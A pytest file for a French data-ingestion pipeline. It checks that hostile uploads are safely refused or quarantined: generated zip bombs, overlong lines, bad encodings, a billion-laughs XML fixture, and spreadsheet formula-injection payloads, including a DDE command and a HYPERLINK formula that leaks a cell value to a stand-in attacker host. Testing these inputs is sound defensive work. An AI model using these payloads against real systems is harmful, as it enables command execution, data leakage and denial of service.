"""Hostile files (tests/fixtures/hostile, and big ones generated here): never a crash, a French
reason naming the file, the row or field and the limit's variable; rows in = raw + quarantine
+ duplicates; a refused file leaves nothing in raw/quarantine but its ``rejected_files`` row."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from ingestion import sources
from ingestion.datasets import CITIZEN_REPORTS
from ingestion.sources.base import Batch, Source
from ingestion.sources.runner import ingest_path
from lakehouse.lake import Zone
from lakehouse.platform import Lakehouse


@pytest.fixture
def hostile(fixtures_dir) -> Path:
    return fixtures_dir / "hostile"


def lakehouse_with(tmp_path: Path, **limits: int) -> Lakehouse:
    """A local lakehouse whose LimitsSettings come from HYPERVISEUR_* variables, as an operator sets them."""
    env = {"HYPERVISEUR_DATA_DIR": str(tmp_path / "data")}
    env |= {f"HYPERVISEUR_{k.upper()}": str(v) for k, v in limits.items()}
    return Lakehouse.from_env(env)


def written(lh: Lakehouse, zone: Zone, source: str, dataset: str) -> list[str]:
    """Data files and manifests of a dataset in a zone."""
    data = [o.key for o in lh.storage.list(lh.lake.dataset_prefix(zone, source, dataset))]
    manifests = [o.key for o in lh.storage.list(f"_meta/manifests/{zone.value}/{source}/{dataset}/")]
    return data + manifests


def quarantined(lh: Lakehouse, source: str, dataset: str) -> list[dict]:
    out = []
    for key in written(lh, Zone.QUARANTINE, source, dataset):
        if key.endswith(".parquet"):
            out += lh.lake.read_table(key).to_pylist()
    return out


def raw_rows(lh: Lakehouse, source: str, dataset: str) -> list[dict]:
    return [
        r
        for k in written(lh, Zone.RAW, source, dataset)
        if k.endswith(".parquet")
        for r in lh.lake.read_table(k).to_pylist()
    ]


def refused(lh: Lakehouse, run, path: Path, *needles: str) -> dict:
    """The one rejected_files row of ``path``: whole size, streamed hash, reason naming the file and ``needles``."""
    assert run.balanced
    assert [f.status for f in run.files if Path(f.path).name == path.name] == ["rejeté"]
    (row,) = [r for r in quarantined(lh, "ingestion", "rejected_files") if Path(r["file"]).name == path.name]
    assert row["reason"].startswith(path.name), row["reason"]
    for needle in needles:
        assert needle in row["reason"], (needle, row["reason"])
    data = path.read_bytes()
    assert row["size_bytes"] == len(data) and row["sha256"] == hashlib.sha256(data).hexdigest()
    assert data.startswith(row["content"])
    return row


def nothing_written(lh: Lakehouse, source: str, dataset: str) -> None:
    assert written(lh, Zone.RAW, source, dataset) == [] and written(lh, Zone.QUARANTINE, source, dataset) == []


def counts(run, name: str) -> tuple[int, int, int, int]:
    c = run.report.datasets[name]
    return c.rows_in, c.rows_raw, c.rows_quarantined, c.duplicates


def zip_with(path: Path, members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


# -- archives ------------------------------------------------------------------------------
def test_zip_bomb_shapefile_is_refused_before_expansion(tmp_path):
    lh = lakehouse_with(tmp_path)
    bomb = zip_with(tmp_path / "bombe.zip", {"bombe.shp": bytes(30 * 1024**2), "bombe.dbf": b"", "bombe.prj": b""})
    assert bomb.stat().st_size < 100_000
    run = ingest_path(lh, "fichiers", bomb)
    refused(lh, run, bomb, "bombe.shp", "HYPERVISEUR_MAX_ARCHIVE_RATIO")
    nothing_written(lh, "fichiers", "bombe")


def test_archive_total_size_limit(tmp_path):
    lh = lakehouse_with(tmp_path, max_archive_bytes=100_000)
    noise = hashlib.sha256(b"x").digest() * 4096  # 128 KiB that does not compress much in ZIP_STORED
    archive = zip_with(tmp_path / "gros.zip", {"gros.shp": noise, "gros.dbf": b""}, zipfile.ZIP_STORED)
    refused(lh, ingest_path(lh, "fichiers", archive), archive, "131 072 octets", "HYPERVISEUR_MAX_ARCHIVE_BYTES")


def _xlsx(rows: list[list]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for r, values in enumerate(rows, start=1):
        for c, value in enumerate(values, start=1):
            cell = ws.cell(r, c)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"  # text as typed by a user: a leading "=" stays text
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_zip_bomb_xlsx_is_refused_before_openpyxl(tmp_path):
    lh = lakehouse_with(tmp_path)
    with zipfile.ZipFile(io.BytesIO(_xlsx([["a"], ["1"]]))) as src:
        members = {n: src.read(n) for n in src.namelist()}
    members["xl/media/image1.bin"] = bytes(30 * 1024**2)
    bomb = zip_with(tmp_path / "classeur.xlsx", members)
    refused(lh, ingest_path(lh, "fichiers", bomb), bomb, "xl/media/image1.bin", "HYPERVISEUR_MAX_ARCHIVE_RATIO")


def test_spreadsheet_formulas_stay_text(tmp_path, hostile):
    lh = lakehouse_with(tmp_path)
    formulas = ['=HYPERLINK("http://attaquant.example/","clic")', "=cmd|' /C calc'!A0", "@SUM(1+1)"]
    book = tmp_path / "formules" / "formules.xlsx"
    book.parent.mkdir()
    book.write_bytes(_xlsx([["nom", "commentaire"]] + [[f"l{i}", f] for i, f in enumerate(formulas)]))
    csv_run = ingest_path(lh, "fichiers", hostile / "formules.csv")
    xlsx_run = ingest_path(lh, "fichiers", book)
    assert counts(csv_run, "fichiers.hostile") == (5, 5, 0, 0)
    assert counts(xlsx_run, "fichiers.formules") == (3, 3, 0, 0)
    csv_text = {r["nom"]: r["commentaire"] for r in raw_rows(lh, "fichiers", "hostile")}
    assert csv_text["Lien"] == '=HYPERLINK("http://attaquant.example/?v="&A1;"clic")'
    assert csv_text["Commande"] == "=cmd|' /C calc'!A0" and csv_text["Arobase"] == "@SUM(1+1)"
    assert sorted(r["commentaire"] for r in raw_rows(lh, "fichiers", "formules")) == sorted(formulas)


# -- lines and records ---------------------------------------------------------------------
def test_endless_line_is_refused_without_reading_it_whole(tmp_path):
    lh = lakehouse_with(tmp_path)
    endless = tmp_path / "sans_fin.csv"
    with open(endless, "wb") as f:
        f.write(b"a;b\n1;2\n")
        for _ in range(3):
            f.write(b"x" * 1024**2)  # 3 MiB, no newline: above the 1 MiB default
    refused(lh, ingest_path(lh, "fichiers", endless), endless, "ligne 3", "HYPERVISEUR_MAX_LINE_BYTES")
    nothing_written(lh, "fichiers", "sans_fin")


def test_unclosed_quote_is_one_record_over_the_line_limit(tmp_path):
    lh = lakehouse_with(tmp_path, max_line_bytes=1000)
    path = tmp_path / "guillemet.csv"
    path.write_text('a;b\n1;"ouvert\n' + "suite;\n" * 500)
    refused(lh, ingest_path(lh, "fichiers", path), path, "commençant ligne 2", "HYPERVISEUR_MAX_LINE_BYTES")


def test_endless_json_line(tmp_path):
    lh = lakehouse_with(tmp_path, max_line_bytes=10_000)
    path = tmp_path / "posts.jsonl"
    path.write_text('{"id": 1, "text": "ok", "posted_at": "2024-01-01T00:00:00Z"}\n' + '{"text": "' + "a" * 50_000)
    refused(lh, ingest_path(lh, "social", path), path, "ligne 2", "HYPERVISEUR_MAX_LINE_BYTES")
    nothing_written(lh, "social", "posts")  # line 1 was valid: not kept alone


def test_decoding_error_mid_file_rolls_back_the_chunks_already_written(tmp_path):
    lh = lakehouse_with(tmp_path)
    path = tmp_path / "long.csv"
    body = "n;commune\n" + "".join(f"{i};Lille\n" for i in range(60_000))
    path.write_bytes(body.encode("cp1252") + b"60000;\x81\n")  # 0x81: undefined in cp1252
    run = ingest_path(lh, "fichiers", path)
    refused(lh, run, path, "cp1252", "après la ligne")
    nothing_written(lh, "fichiers", "long")  # the first 50 000-row chunk was written, then rolled back
    assert "fichiers.long" not in run.report.datasets


def test_long_cell_quarantines_its_row_with_a_prefix(tmp_path):
    lh = lakehouse_with(tmp_path)
    path = tmp_path / "cellules" / "cellules.csv"
    path.parent.mkdir()
    path.write_text("nom;note\ncourt;1\nlong;" + "é" * 150_000 + "\n")
    run = ingest_path(lh, "fichiers", path)
    assert counts(run, "fichiers.cellules") == (2, 1, 1, 0)
    (row,) = quarantined(lh, "fichiers", "cellules")
    error = json.loads(row["_error"])
    assert error["row"] == 3 and error["errors"][0]["field"] == "note"
    assert "150 000 caractères" in error["errors"][0]["message"]
    assert "HYPERVISEUR_MAX_CELL_CHARS" in error["errors"][0]["message"]
    assert len(row["note"]) < 100_010  # a prefix, not the 150 000 characters


# -- encodings -----------------------------------------------------------------------------
def test_utf16_without_bom_is_detected(tmp_path, hostile):
    lh = lakehouse_with(tmp_path)
    run = ingest_path(lh, "fichiers", hostile / "utf16_sans_bom.csv")
    assert counts(run, "fichiers.hostile") == (2, 2, 0, 0)
    assert {r["commune"] for r in raw_rows(lh, "fichiers", "hostile")} == {"Lillé", "Roubaix"}


def test_mixed_encodings_are_refused_with_the_line(tmp_path, hostile):
    lh = lakehouse_with(tmp_path)
    path = hostile / "encodages_melanges.csv"
    refused(lh, ingest_path(lh, "fichiers", path), path, "encodages mélangés", "ligne 4")
    nothing_written(lh, "fichiers", "hostile")


def test_nul_byte_quarantines_its_row(tmp_path, hostile):
    lh = lakehouse_with(tmp_path)
    run = ingest_path(lh, "fichiers", hostile / "octets_nul.csv")
    assert counts(run, "fichiers.hostile") == (3, 2, 1, 0)
    (row,) = quarantined(lh, "fichiers", "hostile")
    error = json.loads(row["_error"])
    assert error["row"] == 3 and error["errors"][0]["field"] == "nom" and "NUL" in error["errors"][0]["message"]
    assert error["file"].endswith("octets_nul.csv")


# -- JSON and XML documents ----------------------------------------------------------------
def test_odd_geojson_features_are_rows_in_quarantine_and_the_folder_goes_on(tmp_path, hostile):
    lh = lakehouse_with(tmp_path)
    folder = tmp_path / "lot"
    folder.mkdir()
    (folder / "a_hostile.geojson").write_bytes((hostile / "feature_non_objet.geojson").read_bytes())
    (folder / "b_sain.csv").write_text("nom;valeur\nx;1\n")
    run = ingest_path(lh, "fichiers", folder)
    assert [f.status for f in run.files] == ["ingéré", "ingéré"] and run.balanced
    assert counts(run, "fichiers.lot") == (5, 2, 3, 0)
    errors = sorted((json.loads(r["_error"]) for r in quarantined(lh, "fichiers", "lot")), key=lambda e: e["row"])
    assert [e["row"] for e in errors] == [1, 3, 4]
    assert "entité n° 1" in errors[0]["errors"][0]["message"] and "géométrie" in errors[2]["errors"][0]["message"]


@pytest.mark.parametrize(
    ("connector", "name", "needles"),
    [
        ("fiware", "imbrication_profonde.json", ("101 niveaux", "HYPERVISEUR_MAX_NESTING_DEPTH")),
        ("open311", "entier_geant_open311.json", ("5000 chiffres",)),
        ("sensorthings", "nan_sensorthings.json", ("NaN",)),
        ("open311", "billion_laughs_open311.xml", ("XML refusé", "DTD")),
    ],
)
def test_hostile_documents_are_refused(tmp_path, hostile, connector, name, needles):
    lh = lakehouse_with(tmp_path)
    path = hostile / name
    refused(lh, ingest_path(lh, connector, path), path, *needles)
    assert not [k for k in lh.storage.list("raw/")]


def test_document_size_and_feature_count_limits(tmp_path):
    lh = lakehouse_with(tmp_path, max_document_bytes=200, max_features=2)
    big = tmp_path / "gros.json"
    big.write_text(json.dumps([{"service_request_id": i} for i in range(50)]))
    many = tmp_path / "nombreux.geojson"
    many.write_text(json.dumps({"type": "FeatureCollection", "features": [{"properties": {}}] * 3}))
    refused(lh, ingest_path(lh, "open311", big), big, "HYPERVISEUR_MAX_DOCUMENT_BYTES")
    refused(lh, ingest_path(lh, "fichiers", many), many, "3 entités", "HYPERVISEUR_MAX_FEATURES")
    book = tmp_path / "classeur.xlsx"  # its sheet XML is parsed whole: held to the document limit
    book.write_bytes(_xlsx([["a"], ["1"]]))
    refused(lh, ingest_path(lh, "fichiers", book), book, "décompressé", "HYPERVISEUR_MAX_DOCUMENT_BYTES")


def test_file_size_limit(tmp_path):
    lh = lakehouse_with(tmp_path, max_file_bytes=100)
    path = tmp_path / "gros.csv"
    path.write_text("a;b\n" + "1;2\n" * 100)
    refused(lh, ingest_path(lh, "fichiers", path), path, "404 octets", "HYPERVISEUR_MAX_FILE_BYTES")


class _Failing(Source):
    """A real connector whose reader writes one good batch, then hits a bug of its own."""

    name = "panne"
    label = "connecteur d'essai"
    datasets = (CITIZEN_REPORTS,)

    def read(self, path, ctx):
        yield Batch(CITIZEN_REPORTS, [{"report_id": "r1", "channel": "essai"}], [1], "ligne")
        raise RuntimeError("bogue du lecteur")


def test_a_reader_bug_is_an_internal_error_and_rolls_back(tmp_path, monkeypatch):
    monkeypatch.setitem(sources._REGISTRY, "panne", _Failing)
    lh = lakehouse_with(tmp_path)
    path = tmp_path / "entree.txt"
    path.write_text("peu importe")
    refused(lh, ingest_path(lh, "panne", path), path, "erreur interne", "RuntimeError", "bogue du lecteur")
    nothing_written(lh, "citizen", "reports")  # the batch written before the bug was deleted
